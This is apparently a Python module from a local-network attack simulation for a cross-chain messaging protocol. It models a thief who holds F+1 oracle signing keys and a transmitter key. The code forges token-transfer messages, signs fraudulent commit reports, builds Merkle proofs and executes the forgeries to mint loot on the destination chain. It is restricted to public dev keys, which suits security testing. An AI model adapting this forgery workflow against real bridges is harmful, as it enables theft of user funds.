"""What a thief can do who holds F+1 commit keys and one transmitter key of a lane's destination.

The keys are the local network's public dev keys. A breach writes reports that no honest oracle would sign; it never
touches price updates, so the DON's own OCR sequence numbers stay in step. A lane's *message* sequence numbers don't:
a committed forgery takes a number for good (deployment_notes.md).
"""

from __future__ import annotations

import secrets
import time
from collections import Counter
from typing import TYPE_CHECKING, Literal, NamedTuple

from ccip_core import views
from ccip_core.client import CcipClient, FeeToken, SentMessage
from ccip_core.journey import sent_between
from ccip_core.localnet.attacks.outcome import AttackError, AttackStopped, Loot, Taking
from ccip_core.localnet.keys import dev_key
from ccip_core.protocol import codec, events, hashing, merkle, ocr3
from ccip_core.protocol.messages import (
    Any2EVMRampMessage,
    Any2EVMTokenTransfer,
    ChainSelector,
    CommitReport,
    ExecutionReport,
    Lane,
    MerkleRoot,
    PriceUpdates,
    RampMessageHeader,
    RmnSignature,
)
from ccip_core.reverts import decode_revert, revert_text
from ccip_core.wallet import TransactionFailed, Wallet

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

    from ccip_core.chains import Chains
    from ccip_core.deployment import Chain
    from ccip_core.http_rpc import HttpRpc
    from ccip_core.rpc import Receipt
    from ccip_core.signers import LocalSigner

COMMIT_GAS = 1_500_000
EXECUTE_GAS = 2_000_000
ORACLES_MAX = 16
SUCCESS = 2
PAY: FeeToken = "native"


class Oracles(NamedTuple):
    """Stolen oracle keys of one plugin."""

    config: views.OcrConfig
    wallet: Wallet


class Breach:
    """One lane whose destination's oracles are compromised."""

    def __init__(self, chains: Chains, lane: Lane, rmn_urls: Sequence[str] = ()) -> None:
        self.chains = chains
        self.lane = lane
        self.source: Chain = chains.chain(lane.source)
        self.dest: Chain = chains.chain(lane.dest)
        self.rmn_urls = rmn_urls
        self.attacker = dev_key("attacker")
        self.thief = CcipClient(chains.deployment, self.attacker)
        """The attacker as an ordinary user of CCIP."""
        self.tx_hashes: list[tuple[ChainSelector, bytes]] = []
        self.in_flight: SentMessage | None = None
        """An honest-looking message that carries the loot and was not delivered when it was sent."""
        self.bought: Counter[ChainSelector] = Counter()
        """What the attacker paid for, in smallest units of the source token: no part of the gain."""
        self._committer: Oracles | None = None
        self._executor: Oracles | None = None

    def close(self) -> None:
        """Close what the breach opened itself."""
        self.thief.close()

    @property
    def source_rpc(self) -> HttpRpc:
        """The source chain."""
        return self.chains.rpc(self.lane.source)

    @property
    def dest_rpc(self) -> HttpRpc:
        """The destination chain."""
        return self.chains.rpc(self.lane.dest)

    @property
    def is_blessed(self) -> bool:
        """Whether the OffRamp wants RMN signatures on this lane's roots: the chain's word, not the file's."""
        config = views.source_chain_config(self.dest_rpc, self.dest.contracts.off_ramp, self.lane.source)
        return not config.is_rmn_verification_disabled

    def next_sequence_number(self) -> int:
        """What the next root of the lane must start with."""
        return views.source_chain_config(self.dest_rpc, self.dest.contracts.off_ramp, self.lane.source).min_seq_nr

    def root_of(self, messages: Sequence[Any2EVMRampMessage]) -> MerkleRoot:
        """The root over these messages, in the order of their sequence numbers."""
        on_ramp = codec.encode_address(self.source.contracts.on_ramp)
        root = merkle.merkle_root([hashing.leaf(message, on_ramp) for message in messages])
        first, last = messages[0].header.sequence_number, messages[-1].header.sequence_number
        return MerkleRoot(self.lane.source, on_ramp, first, last, root)

    def forge(self, loot: Loot, amount: int, sequence_number: int) -> Any2EVMRampMessage:
        """A message that nobody sent, which gives the attacker `amount` (the source's smallest units) of the loot."""
        header = RampMessageHeader(secrets.token_bytes(32), self.lane.source, self.lane.dest, sequence_number, nonce=0)
        transfer = Any2EVMTokenTransfer(
            source_pool_address=codec.encode_address(loot.source.pool),
            dest_token_address=loot.dest.address,
            dest_gas_amount=200_000,
            extra_data=codec.encode_args(("uint256",), (loot.source.decimals,)),
            amount=amount,
        )
        sender = codec.encode_address(self.attacker.address)
        return Any2EVMRampMessage(header, sender, b"", self.attacker.address, 0, (transfer,))

    def genuine(self, first: int, last: int) -> list[Any2EVMRampMessage]:
        """The lane's sent messages first..last, as the destination executes them."""
        return [hashing.to_any2evm(sent.message) for sent in sent_between(self.chains, self.lane, first, last)]

    def commit_next(
        self, write: Callable[[int], Sequence[Any2EVMRampMessage]]
    ) -> tuple[tuple[Any2EVMRampMessage, ...], Receipt]:
        """Commit, without blessing, the messages that `write` makes of the lane's next sequence number.

        The honest oracles may commit in between; then it is written anew.

        Raises:
            TransactionFailed: the OffRamp refuses the root for another reason than its interval.
        """
        for attempts_left in (3, 2, 1, 0):
            messages = tuple(write(self.next_sequence_number()))
            try:
                return messages, self.commit(self.root_of(messages))
            except TransactionFailed as error:
                if attempts_left == 0 or not _is_overtaken(error):
                    raise
        raise AssertionError("the last attempt returns or raises")

    def commit(
        self, root: MerkleRoot, *, as_blessed: bool = False, rmn_signatures: Sequence[RmnSignature] = ()
    ) -> Receipt:
        """Sign the root with F+1 stolen keys and send it. Raises TransactionFailed when the OffRamp refuses it."""
        oracles = self._stolen("commit")
        blessed, unblessed = ((root,), ()) if as_blessed else ((), (root,))
        report = CommitReport(PriceUpdates((), ()), blessed, unblessed, tuple(rmn_signatures))
        digest = oracles.config.config_digest
        sequence_number = self._ocr_sequence_number()
        message = ocr3.ocr3_digest(codec.encode(report), digest, sequence_number)
        signatures = [signer.sign_digest(message) for signer in self._stolen_signers(oracles.config)]
        call = ocr3.encode_commit_call(digest, sequence_number, report, ocr3.pack_signatures(signatures))
        receipt = oracles.wallet.transact(self.dest.contracts.off_ramp, call, gas=COMMIT_GAS)
        self.tx_hashes.append((self.lane.dest, receipt.tx_hash))
        return receipt

    def execute(self, messages: Sequence[Any2EVMRampMessage], position: int) -> Taking:
        """Execute one message of a committed tree through a stolen transmitter key. May be tried again."""
        oracles = self._stolen("execute")
        on_ramp = codec.encode_address(self.source.contracts.on_ramp)
        proof = merkle.prove([hashing.leaf(message, on_ramp) for message in messages], [position])
        message = messages[position]
        report = ExecutionReport(
            self.lane.source,
            (message,),
            ((b"",) * len(message.token_amounts),),
            tuple(proof.proofs),
            proof.flag_bits,
        )
        digest = oracles.config.config_digest
        call = ocr3.encode_execute_call(digest, self._ocr_sequence_number(), (report,))
        receipt = oracles.wallet.transact(self.dest.contracts.off_ramp, call, gas=EXECUTE_GAS)
        self.tx_hashes.append((self.lane.dest, receipt.tx_hash))
        return self._taking(receipt, message.header.sequence_number)

    def send(self, loot: Loot, amount: int) -> SentMessage:
        """An honest message from the attacker to themselves, paid for like anybody's; `amount` in source units."""
        self.buy(loot, amount)
        return self.send_own(loot, amount)

    def send_own(self, loot: Loot, amount: int) -> SentMessage:
        """The same with tokens that the attacker has already. Raises CcipRefusal."""
        tokens = [(loot.symbol, amount)]
        sent = self.thief.send(self.lane, self.attacker.address, tokens=tokens, gas_limit=0, fee_token=PAY)
        self.tx_hashes.append((self.lane.source, sent.tx_hash))
        return sent

    def commit_genuine(self, sent: SentMessage) -> Sequence[Any2EVMRampMessage]:
        """See to it that the message is committed as it was sent, when it is final; the messages of its root.

        On an unblessed lane with the stolen keys; on a blessed one by waiting for the honest oracles.
        """
        depth = self.source.finality_depth_blocks
        self.wait_for(
            lambda: views.final_block(self.source_rpc, depth) >= sent.block_number, "the send did not become final"
        )
        last = sent.sequence_number
        while not self.is_blessed and (first := self.next_sequence_number()) <= last:
            batch = self.genuine(first, last)
            try:
                self.commit(self.root_of(batch))
            except TransactionFailed as error:
                if not _is_overtaken(error):
                    raise
            else:
                return batch
        self.wait_for(lambda: self.next_sequence_number() > last, "nobody committed the message")
        commit = self.thief.show(sent.message_id).commit
        batch = [] if commit is None else self.genuine(commit.root.min_seq_nr, commit.root.max_seq_nr)
        if commit is None or not batch or self.root_of(batch) != commit.root:
            raise AttackStopped(
                f"message {last} of {self.source.name} → {self.dest.name}: its number was taken before; "
                "choose another lane"
            )
        return batch

    def deliver(self, sent: SentMessage) -> Any2EVMRampMessage:
        """See to it that the message arrives as it was sent, and return it."""
        batch = self.commit_genuine(sent)
        position = sent.sequence_number - batch[0].header.sequence_number
        taking = self.execute(batch, position)
        if taking.verdict not in {"success", "repeated"}:
            raise AttackStopped(f"message {sent.sequence_number}: the honest half did not arrive: {taking.reason}")
        return batch[position]

    def buy(self, loot: Loot, amount: int) -> None:
        """Let the network's user sell the attacker so much of the source token."""
        call = codec.encode_call("transfer(address,uint256)", self.attacker.address, amount)
        Wallet(self.source_rpc, dev_key("user")).transact(loot.source.address, call)
        self.bought[self.lane.source] += amount

    def wait_for(self, is_so: Callable[[], bool], what: str, timeout_s: float = 60.0) -> None:
        """Poll the chains until something holds.

        Raises:
            AttackStopped: it did not within the time.
        """
        deadline = time.monotonic() + timeout_s
        while not is_so():
            if time.monotonic() > deadline:
                raise AttackStopped(f"lane {self.source.name} → {self.dest.name}: {what} within {timeout_s:g} s")
            time.sleep(min(0.5, max(0.02, self.dest.block_time_s / 4)))

    def _stolen(self, plugin: Literal["commit", "execute"]) -> Oracles:
        known = self._committer if plugin == "commit" else self._executor
        if known is not None:
            return known
        config = views.ocr_config(self.dest_rpc, self.dest.contracts.off_ramp, 0 if plugin == "commit" else 1)
        keys = [dev_key("oracle_transmitter", index) for index in range(ORACLES_MAX)]
        stolen = [key for key in keys if key.address in config.transmitters]
        if not stolen:
            raise AttackError(
                f"{self.dest.name}: its oracles don't use the local network's dev keys; attack a localnet"
            )
        # The last oracle's key: the honest ones before it keep their nonces to themselves.
        oracles = Oracles(config, Wallet(self.dest_rpc, stolen[-1]))
        if plugin == "commit":
            self._committer = oracles
        else:
            self._executor = oracles
        return oracles

    def _stolen_signers(self, config: views.OcrConfig) -> list[LocalSigner]:
        keys = [dev_key("oracle_signer", index) for index in range(ORACLES_MAX)]
        stolen = [key for key in keys if key.address in config.signers]
        if len(stolen) <= config.f:
            raise AttackError(f"{self.dest.name}: fewer than F+1 of its oracles use dev keys; attack a localnet")
        return stolen[-(config.f + 1) :]

    def _ocr_sequence_number(self) -> int:
        signature = "getLatestPriceSequenceNumber()"
        return int(views.ask(self.dest_rpc, self.dest.contracts.off_ramp, signature, returns=("uint64",))[0]) + 1

    def _taking(self, receipt: Receipt, sequence_number: int) -> Taking:
        for log in receipt.logs:
            event = events.decode_log(log) if log.address == self.dest.contracts.off_ramp else None
            match event:
                case events.SkippedReportExecution():
                    return Taking("skipped", "the lane is cursed", receipt.tx_hash, receipt.block_number)
                case events.ExecutionStateChanged(sequence_number=number) if number == sequence_number:
                    verdict: Literal["success", "failure"] = "success" if event.state == SUCCESS else "failure"
                    reason = "" if event.state == SUCCESS else revert_text(event.return_data)
                    return Taking(verdict, reason, receipt.tx_hash, receipt.block_number)
                case events.AlreadyAttempted() | events.SkippedAlreadyExecutedMessage():
                    return Taking("repeated", "it was executed before", receipt.tx_hash, receipt.block_number)
                case _:
                    continue
        return Taking("skipped", "the OffRamp said nothing", receipt.tx_hash, receipt.block_number)


def _is_overtaken(error: TransactionFailed) -> bool:
    """The honest oracles committed first: the interval that the root claims is taken."""
    cause = decode_revert(error.data)
    return cause is not None and cause.name in {"InvalidInterval", "RootAlreadyCommitted"}
